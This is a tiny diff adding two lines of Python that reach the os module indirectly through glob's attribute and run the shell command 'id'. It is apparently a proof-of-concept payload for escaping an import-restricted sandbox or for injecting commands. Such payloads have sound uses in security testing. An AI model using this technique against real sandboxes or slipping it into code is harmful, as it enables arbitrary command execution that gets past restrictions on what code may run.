@@ -1,0 +1,2 @@
+import glob
+(lambda m: m.os.system("id"))(glob)
